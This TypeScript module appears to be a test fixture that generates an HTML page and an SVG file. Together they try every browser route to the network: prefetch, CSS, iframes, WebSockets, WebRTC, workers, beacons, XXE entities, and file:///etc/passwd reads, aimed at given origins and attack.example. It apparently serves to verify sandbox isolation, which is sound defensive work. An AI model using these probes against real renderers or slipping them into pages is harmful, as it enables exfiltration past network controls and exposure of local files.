/** A page that tries every way to the network that documents and scripts have. `origin`: where it tries to get to, such as `http://10.99.0.2`. */
export function attackPage(origins: readonly string[]): string {
  const of = (make: (origin: string, host: string) => string): string =>
    origins.map((origin) => make(origin, new URL(origin).host)).join("\n");
  return `<!doctype html>
<html><head><title>Attack</title>
${of(
  (origin) => `<link rel="stylesheet" href="${origin}/style.css">
<link rel="preconnect" href="${origin}"><link rel="preconnect" href="${origin}" crossorigin>
<link rel="dns-prefetch" href="${origin}"><link rel="dns-prefetch" href="//attack.example">
<link rel="prefetch" href="${origin}/prefetch"><link rel="preload" as="image" href="${origin}/preload.png">
<link rel="modulepreload" href="${origin}/module.js"><link rel="prerender" href="${origin}/prerender">
<link rel="icon" href="${origin}/icon.png"><link rel="manifest" href="${origin}/manifest.json">
<link rel="expect" href="${origin}"><link rel="search" href="${origin}/search.xml">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${origin}/speculative"]}],"prerender":[{"source":"list","urls":["${origin}/speculative2"]}]}</script>
<style>@import "${origin}/import.css"; @font-face { font-family: f; src: url(${origin}/font.woff2) } body { font-family: f; background: url(${origin}/background.png) }</style>
<meta http-equiv="refresh" content="1; url=${origin}/refresh">`,
)}
<meta http-equiv="x-dns-prefetch-control" content="on">
</head><body>
${of(
  (
    origin,
    host,
  ) => `<img src="${origin}/image.png" alt=""><img srcset="${origin}/2x.png 2x" alt=""><img loading="lazy" src="${origin}/lazy.png" alt="">
<picture><source srcset="${origin}/source.webp"><img src="${origin}/picture.png" alt=""></picture>
<iframe src="${origin}/frame"></iframe><iframe src="file:///etc/passwd"></iframe>
<iframe srcdoc="&lt;img src='${origin}/srcdoc.png'>&lt;script>new WebSocket('ws://${host}/srcdoc');new RTCPeerConnection({iceServers:[{urls:'stun:${host}'}]})&lt;/script>"></iframe>
<object data="${origin}/object"></object><embed src="${origin}/embed"><video src="${origin}/video" poster="${origin}/poster.png" autoplay></video>
<audio src="${origin}/audio" autoplay></audio>
<svg width="9" height="9"><use href="${origin}/use.svg#a"/><image href="${origin}/svg.png"/><filter id="x"><feImage href="${origin}/fe.png"/></filter></svg>
<form id="form" action="${origin}/form" method="post"><input name="a" value="b"></form>
<a id="link" href="${origin}/link" ping="${origin}/ping" target="_blank">link</a><a id="file" download href="${origin}/download">file</a>
<div style="background-image:image-set(url(${origin}/set.png) 1x);mask:url(${origin}/mask.svg#m);cursor:url(${origin}/cursor.cur),auto">text</div>`,
)}
<p>file: <img src="file:///etc/passwd" alt=""></p>
<script>
${attackScript(origins)}</script>
</body></html>`;
}

/** The same as a drawing. */
export const attackDrawing = (origins: readonly string[]): string => `<?xml version="1.0"?>
${origins.map((origin) => `<?xml-stylesheet href="${origin}/style.css" type="text/css"?>`).join("\n")}
<!DOCTYPE svg [<!ENTITY outside SYSTEM "${origins[0]}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100">
${origins
  .map(
    (
      origin,
    ) => `<style>@import "${origin}/import.css"; @font-face { font-family: f; src: url(${origin}/font.woff2) } text { font-family: f; fill: url(${origin}/fill.svg#f) }</style>
<image href="${origin}/image.png" width="9" height="9"/><image xlink:href="${origin}/xlink.png" width="9" height="9"/><use href="${origin}/use.svg#a"/>
<filter id="x"><feImage href="${origin}/fe.png"/></filter><rect width="9" height="9" filter="url(#x)" mask="url(${origin}/mask.svg#m)"/>
<script href="${origin}/script.js"/><a href="${origin}/link" ping="${origin}/ping"><text y="50">link &outside;</text></a>
<foreignObject width="50" height="50"><img xmlns="http://www.w3.org/1999/xhtml" src="${origin}/html.png"/><iframe xmlns="http://www.w3.org/1999/xhtml" src="${origin}/frame"/>
<link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="${origin}"/></foreignObject>`,
  )
  .join("\n")}
<script><![CDATA[
${attackScript(origins)}]]></script></svg>`;

const attackScript = (origins: readonly string[]): string => `const root = document.body ?? document.documentElement;
const make = (name) => document.createElementNS("http://www.w3.org/1999/xhtml", name);
const attempt = (act) => { try { const made = act(); made?.catch?.(() => {}); } catch {} };
const channels = (scope, host, origin) => {
  attempt(() => new scope.WebSocket("ws://" + host + "/socket"));
  attempt(() => new scope.EventSource(origin + "/events"));
  attempt(() => new scope.WebTransport("https://" + host + "/transport"));
  attempt(() => scope.navigator.sendBeacon(origin + "/beacon", "x"));
  attempt(() => scope.fetch(origin + "/fetch", { mode: "no-cors", keepalive: true }));
  attempt(() => scope.fetchLater(origin + "/later", { activateAfter: 0 }));
  attempt(() => { const request = new scope.XMLHttpRequest(); request.open("POST", origin + "/xhr"); request.send("x"); });
  attempt(() => {
    const Peer = scope.RTCPeerConnection ?? scope.webkitRTCPeerConnection;
    const peer = new Peer({ iceServers: [{ urls: "stun:" + host }, { urls: "turn:" + host + "?transport=tcp", username: "a", credential: "b" }] });
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  attempt(() => scope.open(origin + "/window"));
  attempt(() => new scope.Worker("data:text/javascript," + encodeURIComponent("fetch('" + origin + "/worker');new WebSocket('ws://" + host + "/worker')")));
  attempt(() => new scope.Worker(URL.createObjectURL(new Blob(["fetch('" + origin + "/blob');new WebSocket('ws://" + host + "/blob')"]))));
  attempt(() => new scope.SharedWorker("data:text/javascript," + encodeURIComponent("new WebSocket('ws://" + host + "/shared')")));
  attempt(() => scope.navigator.serviceWorker.register("/worker.js"));
};
for (const origin of ${JSON.stringify(origins)}) {
  const host = new URL(origin).host;
  channels(globalThis, host, origin);
  // A document that has just been made may still have what was removed from this one.
  attempt(() => { const frame = root.appendChild(make("iframe")); channels(frame.contentWindow, host, origin); });
  attempt(() => { const frame = make("iframe"); frame.src = "javascript:parent.channels(globalThis)"; root.append(frame); });
  attempt(() => { const frame = make("iframe"); frame.src = URL.createObjectURL(new Blob(["<script>new WebSocket('ws://" + host + "/blobframe')</" + "script>"], { type: "text/html" })); root.append(frame); });
  attempt(() => import(origin + "/import.js"));
  attempt(() => document.getElementById("form").submit());
  attempt(() => document.getElementById("link").click());
  attempt(() => document.getElementById("file").click());
  attempt(() => { new Image().src = origin + "/new-image.png"; });
  attempt(() => { const link = make("link"); link.rel = "preconnect"; link.href = origin; root.append(link); });
  attempt(() => new FontFace("g", "url(" + origin + "/face.woff2)").load());
  attempt(() => CSS.paintWorklet.addModule(origin + "/worklet.js"));
  attempt(() => new AudioContext().audioWorklet.addModule(origin + "/audio.js"));
  attempt(() => { location.href = origin + "/location"; });
}
root.append("scripts ran");
`;
